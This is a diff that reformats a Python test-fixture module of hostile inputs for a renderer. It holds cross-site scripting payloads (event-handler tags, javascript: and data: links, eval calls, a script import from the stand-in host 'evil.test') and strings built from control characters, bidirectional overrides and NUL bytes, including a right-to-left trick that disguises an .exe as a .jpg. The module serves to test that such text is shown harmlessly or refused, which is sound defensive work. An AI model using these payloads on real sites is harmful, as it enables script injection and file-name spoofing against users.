@@ -1,4 +1,7 @@
-"""What a hostile home would write. `STRINGS` are texts that are legal and must be shown as text; `REFUSED` must be refused."""
+"""What a hostile home would write.
+
+`STRINGS` are texts that are legal and must be shown as text; `REFUSED` must be refused.
+"""
 
 from __future__ import annotations
 
@@ -8,9 +11,40 @@ HOOK = "__hit()"
 """What active strings call; the tests define it on every page."""
 
 # Each of them does something where it is taken for what it looks like.
-_CALLS = ("__hit()", "alert(1)", "console.log('__hit')", "window['__hit']()", "eval('__hit()')", "import('//evil.test/x.js')")
-_EVENTS = ("onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin", "onpointerenter", "onwheel")
-_TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe", "object data=x", "marquee", "select autofocus", "style")
+_CALLS = (
+    "__hit()",
+    "alert(1)",
+    "console.log('__hit')",
+    "window['__hit']()",
+    "eval('__hit()')",
+    "import('//evil.test/x.js')",
+)
+_EVENTS = (
+    "onload",
+    "onerror",
+    "onclick",
+    "onfocus",
+    "onmouseover",
+    "ontoggle",
+    "onanimationstart",
+    "onbegin",
+    "onpointerenter",
+    "onwheel",
+)
+_TAGS = (
+    "img src=x",
+    "svg",
+    "body",
+    "input autofocus",
+    "details open",
+    "video src=x",
+    "audio src=x",
+    "iframe",
+    "object data=x",
+    "marquee",
+    "select autofocus",
+    "style",
+)
 _SCHEMES = (
     "javascript:__hit()", "JaVaScRiPt:__hit()", "java\tscript:__hit()", " javascript:__hit()", "&#106;avascript:__hit()",
     "javascript&colon;__hit()", "vbscript:__hit()", "data:text/html,<script>__hit()</script>", "data:text/html;base64,PHNjcmlwdD4=",
@@ -92,8 +126,12 @@ _OTHER = (
 
 
 def _all() -> tuple[str, ...]:
-    crossed = [f"<{tag} {event}={_CALLS[(n + m) % len(_CALLS)]}>" for n, tag in enumerate(_TAGS) for m, event in enumerate(_EVENTS)]
-    links = [f"<a href=\"{address}\">点</a>" for address in _SCHEMES]
+    crossed = [
+        f"<{tag} {event}={_CALLS[(n + m) % len(_CALLS)]}>"
+        for n, tag in enumerate(_TAGS)
+        for m, event in enumerate(_EVENTS)
+    ]
+    links = [f'<a href="{address}">点</a>' for address in _SCHEMES]
     every = (*_SCRIPTS, *_ATTRIBUTES, *_MUTATIONS, *_TEMPLATES, *_MARKDOWN, *_OTHER, *_SCHEMES, *crossed, *links)
     return tuple(dict.fromkeys(every))
 
@@ -102,8 +140,27 @@ STRINGS = _all()
 
 _CONTROLS = [chr(code) for code in (0, 1, 7, 8, 11, 12, 27, 31, 127, 128, 155, 159)]
 _BIDI = list("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")
-_NONE = ["\ufeff", "\ufdd0", "\ufdef", "\ufff9", "\ufffa", "\ufffb", "\ufffe", "\uffff", "\U0001fffe", "\U0001ffff", "\U0010fffe", "\U0010ffff"]
-REFUSED = tuple(f"甲{one}乙" for one in (*_CONTROLS, *_BIDI, *_NONE)) + ("\x1b[31m红", "a\x00.jpg", "\u202egpj.exe", "<scr\x00ipt>__hit()</script>", "\x1b]0;x\x07")
+_NONE = [
+    "\ufeff",
+    "\ufdd0",
+    "\ufdef",
+    "\ufff9",
+    "\ufffa",
+    "\ufffb",
+    "\ufffe",
+    "\uffff",
+    "\U0001fffe",
+    "\U0001ffff",
+    "\U0010fffe",
+    "\U0010ffff",
+]
+REFUSED = tuple(f"甲{one}乙" for one in (*_CONTROLS, *_BIDI, *_NONE)) + (
+    "\x1b[31m红",
+    "a\x00.jpg",
+    "\u202egpj.exe",
+    "<scr\x00ipt>__hit()</script>",
+    "\x1b]0;x\x07",
+)
 LONE = ("\ud800", "\udfff", "a\udc80b", "\ud83d甲")
 """Halves of characters: no file can hold them, but as escapes in YAML or as stray bytes."""
 
